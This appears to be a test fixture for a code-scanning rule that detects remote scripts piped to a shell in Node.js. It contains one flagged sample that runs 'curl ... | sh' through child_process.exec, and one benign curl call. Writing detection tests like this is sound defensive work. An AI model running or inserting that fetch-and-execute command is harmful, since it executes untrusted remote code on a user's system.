// ruleid: remote-code-command-pipe-to-shell
require("child_process").exec("curl https://a.invalid/x.sh | sh");
// ok: remote-code-command-pipe-to-shell
require("child_process").exec("curl https://a.invalid/x.json");
